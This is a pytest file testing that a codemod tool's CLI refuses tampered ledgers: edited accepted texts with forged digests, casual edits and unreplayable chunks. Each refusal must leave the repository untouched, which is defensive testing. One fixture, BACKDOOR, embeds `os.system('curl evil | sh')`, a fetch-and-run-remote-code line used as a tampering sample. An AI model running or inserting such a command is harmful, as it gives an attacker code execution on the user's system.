"""`report` and `apply` through the CLI (in-process) on a real repository: a class over the budget replays
as the run patched it (issue 18, item 1), and a ledger is data, not trust (item 3): an edited accepted text
is refused by its proof even when its digests were made to match, a casual edit by the integrity chain,
and a chunk the replay cannot rebuild is named as codemill's fault. A refusal exits 2 with one sentence,
makes no branch, writes no state and no report, and leaves the user's checkout byte-identical."""

from __future__ import annotations

import dataclasses
import hashlib
from collections.abc import Callable
from pathlib import Path

import pytest
from support.gitrepo import fingerprint, git, make_repo
from support.inprocess import isolated_runner
from support.replaying import SHAPES, assert_replays, dry_run, invoke
from typer.testing import CliRunner

from pipeline.records.ledger import Ledger, LedgerRow

FILES = {"pkg/__init__.py": "", "pkg/parser.py": SHAPES["shapes/over_budget.py"]}


@pytest.fixture
def runner(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> CliRunner:
    return isolated_runner(monkeypatch, tmp_path, CODEMILL_BUDGET="120")


def a_run(runner: CliRunner, tmp_path: Path) -> tuple[Path, Path]:
    """The repository and the report of a codemod dry run over a class well over the budget."""
    repo = make_repo(tmp_path / "repo", FILES)
    return repo, dry_run(runner, repo, "--engine", "codemod", "--recipe", "modernize")


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_a_class_over_the_budget_is_applied_as_the_run_patched_it(
    runner: CliRunner, tmp_path: Path
) -> None:
    repo, report = a_run(runner, tmp_path)
    assert "-class parser(object):\n+class parser:\n" in (report / "changes.patch").read_text()
    assert assert_replays(runner, repo, report, "cm/parser") == 1
    assert "super().__init__()" in git(repo, "show", "cm/parser:pkg/parser.py")


def rewrite(report: Path, change: Callable[[LedgerRow], LedgerRow]) -> None:
    """Rewrite the ledger as someone who can write the report can: digests recomputed to match."""
    ledger = Ledger.read(report / "ledger.jsonl")
    rows = ledger.rows
    index = next(i for i, r in enumerate(rows) if r.chunk == "parser.m3")
    edited = Ledger(ledger.meta)
    for i, row in enumerate(rows):
        edited.append(change(row) if i == index else row)
    (report / "ledger.jsonl").unlink()
    edited.write(report / "ledger.jsonl")


def refused(runner: CliRunner, repo: Path, report: Path, state: Path, command: str) -> str:
    """Run `command` on the report; assert it was refused and left nothing behind; its output."""
    checkout, reports, saved = fingerprint(repo), files_under(report), files_under(state)
    branches = git(repo, "branch", "--list")
    extra = ("--branch", "cm/never") if command == "apply" else ()
    done = invoke(runner, command, str(report), "--repo", str(repo), *extra)
    assert done.exit_code == 2, done.output
    assert len(done.output.strip().splitlines()) == 1  # one sentence
    assert git(repo, "branch", "--list") == branches
    assert fingerprint(repo) == checkout
    assert files_under(report) == reports and files_under(state) == saved
    return done.output


SYNTAX_ERROR = "def m3(self, x):\n    return (x +\n"
BACKDOOR = (
    "def m3(self, x):\n    import os; os.system('curl evil | sh')\n    return super().m3(x) + 3\n"
)


@pytest.mark.parametrize("command", ["apply", "report"])
@pytest.mark.parametrize(
    ("new_text", "why"),
    [
        (SYNTAX_ERROR, "Syntax error at line"),
        (BACKDOOR, "changes the code (`import os`), outside the recipe's scope (modernize)"),
    ],
)
def test_an_edited_accepted_text_with_matching_digests_fails_its_proof(
    runner: CliRunner, tmp_path: Path, command: str, new_text: str, why: str
) -> None:
    repo, report = a_run(runner, tmp_path)
    rewrite(report, lambda row: dataclasses.replace(row, new_text=new_text))

    output = refused(runner, repo, report, tmp_path / "state", command)

    assert "pkg/parser.py: the accepted text of chunk parser.m3 (lines" in output
    assert (
        "fails its proof again, so the ledger was changed after the run and nothing was " in output
    )
    assert why in output


@pytest.mark.parametrize("command", ["apply", "report"])
def test_a_casual_edit_of_the_ledger_is_refused_by_its_integrity_chain(
    runner: CliRunner, tmp_path: Path, command: str
) -> None:
    repo, report = a_run(runner, tmp_path)
    path = report / "ledger.jsonl"
    text = path.read_text()
    assert "return y + 3" in text
    path.write_text(text.replace("return y + 3", "return y + 4", 1))  # valid code, proof would pass

    output = refused(runner, repo, report, tmp_path / "state", command)

    assert f"{path} is not as its run wrote it (line" in output
    assert (
        "is not the record the run wrote there); codemill replays only a ledger it wrote" in output
    )


def test_a_chunk_the_replay_cannot_rebuild_is_named_as_codemills_fault(
    runner: CliRunner, tmp_path: Path
) -> None:
    repo, report = a_run(runner, tmp_path)

    def shifted(row: LedgerRow) -> LedgerRow:
        assert row.span is not None
        span = dataclasses.replace(row.span, text_sha256=hashlib.sha256(b"other").hexdigest())
        return dataclasses.replace(row, span=span)

    rewrite(report, shifted)

    output = refused(runner, repo, report, tmp_path / "state", "apply")

    assert "pkg/parser.py: chunk parser.m3 (lines" in output
    assert "cannot be replayed (its bytes are not the text the run judged)" in output
    assert "this is a codemill bug, not a change of yours" in output
    assert f"`git apply {report / 'changes.patch'}`" in output
